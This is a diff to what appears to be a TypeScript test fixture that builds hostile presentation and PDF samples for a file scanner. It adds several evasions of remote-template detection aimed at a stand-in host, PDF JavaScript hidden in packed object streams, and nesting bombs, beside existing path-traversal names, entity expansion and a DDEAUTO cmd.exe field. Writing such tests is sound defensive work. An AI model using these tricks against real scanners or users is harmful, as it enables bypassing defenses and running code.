@@ -95,12 +95,13 @@ function packedObjects(
   {
     type = '/ObjStm',
     filter = '/FlateDecode',
+    more = '',
     damage = (packed: Buffer) => packed,
-  }: { type?: string; filter?: string; damage?: (packed: Buffer) => Buffer } = {},
+  }: { type?: string; filter?: string; more?: string; damage?: (packed: Buffer) => Buffer } = {},
 ): Buffer {
   const packed = damage(deflateSync(latin(`1 0 << ${object} >>`)))
   const stream = joined(
-    `endobj\n91 0 obj\n<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
+    `endobj\n91 0 obj\n<< /Type ${type} /N 1 /First 4 /Filter ${filter} ${more} /Length ${packed.length} >>\nstream\n`,
     packed,
     '\nendstream\nendobj',
   )
@@ -135,6 +136,12 @@ function understated(archive: Buffer): Buffer {
   }
   return bytes
 }
+
+/** Slides that refer to something in these words. */
+const referring = (references: string) =>
+  presentation({ 'ppt/_rels/settings.xml.rels': references })
+
+const TEMPLATE = 'Type="http://a.example/attachedTemplate"'
 
 const cut = (bytes: Buffer, share = 0.6) => bytes.subarray(0, Math.floor(bytes.length * share))
 
@@ -235,6 +242,21 @@ export async function hostileFiles(): Promise<Hostile[]> {
       'a name that leads out': presentation({ '../../evil.xml': '<a/>' }),
       'a name that leads to the root': presentation({ '/etc/cron.d/evil': '<a/>' }),
       'a name of Windows': presentation({ 'ppt\\evil.xml': '<a/>' }),
+      'a presentation whose references are not whole': referring('<Relationships><Relationship'),
+      'a presentation that refers to something twice': referring(
+        `<Relationships><Relationship ${TEMPLATE} Target="a" Target="https://a.example"/></Relationships>`,
+      ),
+      'a presentation with references of a kind of their own': referring(
+        '<!DOCTYPE a><Relationships/>',
+      ),
+      'a presentation with references in letters of their own': referring(
+        '<?xml version="1.0" encoding="utf-7"?><Relationships>+ADw-Relationship</Relationships>',
+      ),
+      'a PDF whose objects stand within each other': pdfWith(
+        aPdf,
+        `/A [${'1 0 obj << /A ['.repeat(3000)}${'] >>'.repeat(3000)}]`,
+      ),
+      'a PDF with an object that does not end': pdfWith(aPdf, '/A (b'),
       'texts that grow as they are read': presentation({
         'ppt/slides/slide2.xml':
           '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;&b;">]><p:sld>&d;</p:sld>',
@@ -257,6 +279,27 @@ export async function hostileFiles(): Promise<Hostile[]> {
         'ppt/_rels/settings.xml.rels':
           '<Relationships><Relationship Id="r" Type="http://a.example/attachedTemplate" Target="https://a.example/x.dotm" TargetMode="External"/></Relationships>',
       }),
+      'a presentation that fetches its template, in single quotes': referring(
+        "<Relationships><Relationship Type='http://a.example/attachedTemplate' Target='https://a.example/x.dotm'/></Relationships>",
+      ),
+      'a presentation that fetches its template, spaced out': referring(
+        `<Relationships><Relationship ${TEMPLATE} Target\n=\n"https://a.example/x.dotm"/></Relationships>`,
+      ),
+      'a presentation that fetches its template, under a prefix': referring(
+        `<p:Relationships xmlns:p="a"><p:Relationship ${TEMPLATE} Target="https://a.example/x.dotm"/></p:Relationships>`,
+      ),
+      'a presentation that fetches its template, letters as numbers': referring(
+        `<Relationships><Relationship ${TEMPLATE} Target="&#104;t&#x09;tps://a.example/x.dotm"/></Relationships>`,
+      ),
+      'a presentation that fetches its template from another machine': referring(
+        `<Relationships><Relationship ${TEMPLATE} Target="file:///\\\\a.example\\x.dotm"/></Relationships>`,
+      ),
+      'a presentation that fetches its template, far behind': referring(
+        `<Relationships>${' '.repeat(999_950)}<Relationship ${TEMPLATE} Target="https://a.example/x.dotm"/></Relationships>`,
+      ),
+      'a presentation that fetches its template, in large letters': presentation({
+        'ppt/_rels/settings.xml.RELS': `<Relationships><Relationship ${TEMPLATE} Target="https://a.example/x.dotm"/></Relationships>`,
+      }),
       'a presentation with a field that starts a program': presentation({
         'ppt/field.xml': '<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe </w:instrText>',
       }),
@@ -272,6 +315,24 @@ export async function hostileFiles(): Promise<Hostile[]> {
         aPdf,
         '/S /JavaScript',
         { type: '/Obj#53tm' },
+      ),
+      'a PDF with a script that is packed and described at length': packedObjects(
+        aPdf,
+        '/S /JavaScript',
+        { more: `/A (${'x'.repeat(700)})` },
+      ),
+      'a PDF with a script that is packed behind a remark': packedObjects(aPdf, '/S /JavaScript', {
+        more: '%endobj\n',
+      }),
+      'a PDF with a script that is packed behind what looks packed': packedObjects(
+        aPdf,
+        '/S /JavaScript',
+        { more: '/A (<< >>\nstream\nendstream \\) << )' },
+      ),
+      'a PDF with a script that is packed without saying so': packedObjects(
+        aPdf,
+        '/S /JavaScript',
+        { type: '/Other' },
       ),
       'a PDF with a script that is packed with a wrong sum': packedObjects(aPdf, '/S /JavaScript', {
         damage: (packed) => packed.fill(0, packed.length - 4),
